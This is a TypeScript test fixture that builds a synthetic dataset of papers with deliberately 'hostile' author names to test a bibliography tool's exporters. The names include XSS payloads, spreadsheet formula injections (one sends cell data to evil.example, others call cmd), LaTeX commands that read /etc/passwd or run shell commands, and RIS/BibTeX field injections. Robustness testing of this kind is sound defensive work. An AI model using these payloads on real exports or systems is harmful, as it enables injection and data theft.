/** A few papers by people whose names no file format was made for. */

import type { Dataset } from '../../../../src/core/model/dataset.ts';
import { emptyRecord, type PaperRecord } from '../../../../src/core/model/record.ts';
import type { Claims } from '../../../../src/core/model/source.ts';
import { datasetOf } from '../../../support/madeDatasets.ts';

export const hostileNames = [
  'Zoë "Zed" O\'Brien & Sons <script>alert(1)</script>',
  'محمد\u202e العربي',
  '王小明',
  'Back\\slash Smith\\',
  'Tab\tand\nLine Break',
  'Comma, Semi; Colon',
  `Long ${'Name '.repeat(2000)}End`,
  'Bell\u0007 Null\u0000 Surrogate\ud800 Nonchar\uffff',
  ']]> &amp; --> {"a":1}',
  '12345',
  'Ada Mills',
  'Ada Mills',
  '"><img src="/x" onerror="alert(1)">',
  'javascript:alert(1)',
  '=HYPERLINK("http://evil.example/?"&A1;"Ada")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '\u202egpj.ylf\u202a and \u2067more',
  '</text><script>alert(1)</script>',
  '\\input{/etc/passwd} \\write18{id} %$#',
  'TI  - Injected\nER  - \nTY  - JOUR',
  '}, author = {Mallory}',
] as const;

const line = 1;
const located = <T>(value: T) => ({ value, line });

const noAddress: Claims<string> = [
  {
    value: 'javascript:alert(1)',
    basis: 'stated',
    sources: [{ file: 'made.txt', line: 1 }],
  },
];

/** The names two by two on a paper, and all of one paper without a year or a title of its own. */
export const hostileCorpus = async (): Promise<Dataset> => {
  const pairs = hostileNames.map((name, i): PaperRecord => {
    const next = hostileNames[(i + 1) % hostileNames.length] ?? '';
    return {
      ...emptyRecord(i + 1),
      title: located(`Work ${i} of “${name.slice(0, 60)}” & <others>`),
      abstract: located(`What ${name.slice(0, 60)} says of it: see https://example.org/<${i}>.`),
      ...(i % 2 === 0 ? {} : { venue: located(`Journal of ${name.slice(0, 60)}`) }),
      organisations: [located({ name: `${name.slice(0, 60)} University`, country: 'FR' })],
      keywords: [located(`word${i}`), located(name.slice(0, 60))],
      ...(i % 3 === 0 ? {} : { date: located({ year: 2000 + i }) }),
      identifiers: [located({ scheme: 'doi', value: `10.1000/x${i}<y>&"z"` })],
      authors: [name, next].map((rawName, k) => ({
        rawName,
        position: k + 1,
        line: i + 1,
        identifiers: [
          { scheme: 'orcid', value: `0000-0000-0000-${1000 + ((i + k) % hostileNames.length)}` },
        ],
      })),
    };
  });
  const dataset = await datasetOf(pairs);
  // The resolver reads names as names; the exports must take whatever a dataset file says.
  return {
    ...dataset,
    files: [
      ...dataset.files,
      { name: 'x<img src=x onerror=alert(1)>\u202e.bib', bytes: 0, format: 'made', records: 0 },
    ],
    papers: dataset.papers.map((paper) => ({ ...paper, links: noAddress })),
    authors: dataset.authors.map((author, i) => {
      const name = hostileNames[i] ?? author.name;
      const variants = author.variants.map((variant, k) =>
        k === 0 ? { ...variant, name } : variant,
      );
      return { ...author, name, variants };
    }),
  };
};
